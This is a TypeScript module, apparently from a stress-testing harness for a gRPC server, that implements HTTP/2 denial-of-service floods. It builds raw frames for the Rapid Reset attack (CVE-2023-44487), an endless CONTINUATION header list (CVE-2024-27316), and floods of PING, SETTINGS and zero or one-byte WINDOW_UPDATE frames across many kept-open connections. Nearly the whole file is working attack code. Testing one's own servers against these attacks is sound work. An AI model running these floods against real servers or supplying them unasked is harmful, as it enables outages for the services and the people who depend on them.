import type { Socket } from 'node:net';
import {
  callBlock,
  FLAG,
  FRAME,
  field,
  frame,
  preface,
  settings,
  windowUpdate,
} from '../../support/http2-frames.ts';
import type { AttackContext, Attacker } from '../lib/attacker.ts';
import { type ConnectionOptions, keepConnections, writeOn } from '../lib/connections.ts';
import { CREATE_TOKEN } from '../lib/grpc-session.ts';
import { countRejections, grpcConnections } from './streams.ts';

/** HTTP/2 frames that cost the sender nothing, as fast as the operator reads them. */

type FloodOptions = Pick<ConnectionOptions, 'connections' | 'addresses'> & {
  /** Whether the answers are read; true unless given. */
  readonly reads?: boolean;
};

/** A flood of what `next` gives for each connection. */
const flood =
  (nextOf: (context: AttackContext) => () => Uint8Array) =>
  ({ reads = true, ...options }: FloodOptions): Attacker =>
  (context) =>
    keepConnections(context, grpcConnections(options), (socket: Socket, signal) => {
      if (reads) countRejections(socket, context);
      socket.write(preface());
      writeOn(socket, signal, nextOf(context));
    });

const AT_ONCE = 256;
/** The largest frame that every server accepts (RFC 9113 §4.2). */
const FRAME_BYTES = 16_384;

const CALL = callBlock(CREATE_TOKEN);
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Streams that are reset as soon as they are opened (CVE-2023-44487). */
export const rapidResets = flood(({ counter }) => {
  let stream = 1;
  return () => {
    const frames: Buffer[] = [];
    for (let at = 0; at < AT_ONCE; at += 1) {
      counter.attempted();
      frames.push(
        frame(FRAME.headers, { flags: FLAG.endHeaders, stream, payload: CALL }),
        frame(FRAME.resetStream, { stream, payload: CANCEL }),
      );
      stream += 2;
    }
    return Buffer.concat(frames);
  };
});

/** The same bytes over and over. */
const repeated = (bytes: Buffer) => flood(() => () => bytes);

const times = (bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: AT_ONCE }, () => bytes));

/** PINGs, each of which wants an answer. */
export const pings = repeated(times(frame(FRAME.ping, { payload: Buffer.alloc(8) })));

/** SETTINGS, each of which wants an acknowledgement. */
export const settingsFrames = repeated(times(settings([[4, 65_535]])));

/** Windows that grow by one byte. */
export const smallWindows = repeated(times(windowUpdate(0, 1)));

/** Windows that grow by nothing, which is an error (RFC 9113 §6.9): a new connection each. */
export const emptyWindows = repeated(windowUpdate(0, 0));

/** A header list that never ends (CVE-2024-27316). */
export const continuations = flood(() => {
  let hasBegun = false;
  const more = frame(FRAME.continuation, {
    stream: 1,
    payload: Buffer.concat(
      Array.from({ length: 16 }, (_, at) => field(`x-${at}`, 'a'.repeat(FRAME_BYTES / 16 - 20))),
    ),
  });
  return () => {
    if (hasBegun) return more;
    hasBegun = true;
    return frame(FRAME.headers, { stream: 1, payload: CALL });
  };
});
